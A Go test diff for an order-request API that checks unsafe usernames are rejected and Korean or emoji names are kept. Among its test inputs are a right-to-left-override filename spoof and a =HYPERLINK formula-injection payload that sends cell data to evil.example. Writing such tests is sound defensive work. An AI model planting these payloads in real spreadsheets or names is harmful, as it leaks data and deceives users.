@@ -151,3 +151,43 @@ func TestOrderRequests(t *testing.T) {
 	require.Equal(t, http.StatusBadRequest, status)
 	require.Equal(t, "id", out["field"])
 }
+
+// A username that is not safe text is refused with 400 naming username and
+// saying what is wrong, and inserts nothing: a right-to-left override, a
+// spreadsheet formula, a zero width space, and a lone surrogate, which
+// encoding/json decodes to U+FFFD. A Korean or emoji username is accepted
+// and stored as it was sent.
+func TestOrderRequestsUnsafeUsername(t *testing.T) {
+	t.Parallel()
+	b := setupAPI(t)
+	for _, c := range []struct{ username, msg string }{
+		{`evil\u202etxt.exe`, "contains a right-to-left override U+202E at character 5"},
+		{"evil\u202etxt.exe", "contains a right-to-left override U+202E at character 5"},
+		{`=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")`, "starts with '=' (a spreadsheet formula)"},
+		{"@SUM(A1)", "starts with '@' (a spreadsheet formula)"},
+		{`ki\u200bm`, "contains a zero width space U+200B at character 3"},
+		{`kim\udc00`, "contains a replacement character U+FFFD at character 4 (text mangled before it arrived: invalid UTF-8 or a lone surrogate)"},
+		{`\ud800`, "contains a replacement character U+FFFD at character 1 (text mangled before it arrived: invalid UTF-8 or a lone surrogate)"},
+		{`kim\u0000`, "contains a NUL U+0000 at character 4"},
+	} {
+		status, out := b.do(t, http.MethodPost, "/v1/order-requests", "secret", "application/json",
+			`{"username":"`+c.username+`","totalPrice":1,"appliedYearMonth":"2025-02"}`)
+		require.Equal(t, http.StatusBadRequest, status, c.username)
+		require.Equal(t, "username", out["field"], c.username)
+		require.Equal(t, c.msg, out["error"], c.username)
+		rows, jobs := b.rowsAndJobs(t)
+		require.Zero(t, rows, c.username)
+		require.Zero(t, jobs, c.username)
+	}
+
+	for _, u := range []string{"김철수", "홍길동 2세", `이영희\ud83d\ude00`, "\U0001F469\u200d\U0001F4BB"} {
+		status, out := b.do(t, http.MethodPost, "/v1/order-requests", "secret", "application/json",
+			`{"username":"`+u+`","totalPrice":1,"appliedYearMonth":"2025-02"}`)
+		require.Equal(t, http.StatusAccepted, status, out)
+		var want string
+		require.NoError(t, json.Unmarshal([]byte(`"`+u+`"`), &want))
+		status, out = b.do(t, http.MethodGet, "/v1/order-requests/"+strconv.FormatInt(int64(out["id"].(float64)), 10), "", "", "")
+		require.Equal(t, http.StatusOK, status)
+		require.Equal(t, want, out["username"])
+	}
+}
